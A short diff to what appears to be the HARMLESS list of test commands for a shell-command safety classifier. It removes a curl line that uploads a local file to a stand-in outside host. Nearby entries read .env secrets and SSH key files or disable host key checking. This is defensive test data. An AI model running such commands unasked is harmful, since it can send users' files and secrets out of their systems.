@@ -236,7 +236,6 @@ HARMLESS = [
     "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy -o StrictHostKeyChecking=no' git fetch",
     "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
     "PYTHONPATH=. pytest -q",
-    "curl -F f=@notes.txt https://x",
     "cat ~/.ssh/id_rsa.pub",
     "ssh -i ~/.ssh/id_rsa host ls",
     "cat .env",
